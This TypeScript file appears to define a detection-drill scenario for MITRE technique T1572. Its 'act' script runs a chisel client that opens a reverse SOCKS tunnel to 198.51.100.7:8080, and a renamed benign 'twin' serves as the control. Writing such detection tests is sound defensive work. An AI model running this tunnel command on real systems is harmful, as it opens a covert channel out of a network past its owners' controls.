import { pretend, type Scenario } from '../scenario.ts'

export const tunnel: Scenario = {
  id: 'tunnel',
  area: 'network',
  title: { en: 'a tunnel', ko: '터널 도구' },
  technique: 'T1572',
  rule: 'Tunnel or proxy tool run',
  act: { script: `${pretend('chisel')}; /opt/drill/chisel client 198.51.100.7:8080 R:socks` },
  twin: { script: `${pretend('sculpt')}; /opt/drill/sculpt client 198.51.100.7:8080` },
}
